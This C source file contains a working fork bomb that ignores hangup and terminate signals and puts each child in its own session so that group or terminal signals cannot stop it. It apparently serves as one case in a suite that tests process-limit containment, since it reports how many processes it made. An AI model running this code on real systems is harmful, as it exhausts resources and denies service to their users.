// SPDX-License-Identifier: MIT
// Forks for ever, each in a session of its own, so that no signal to a group or terminal reaches it.
#include "attack.h"

static void attack(void) {
  long made = 0;
  signal(SIGHUP, SIG_IGN);
  signal(SIGTERM, SIG_IGN);
  while (1) {
    const pid_t child = fork();
    if (child < 0) break;
    if (child == 0) {
      setsid();
      while (1) pause();
    }
    ++made;
  }
  told("more", -1);
  told_of("made", made);
}
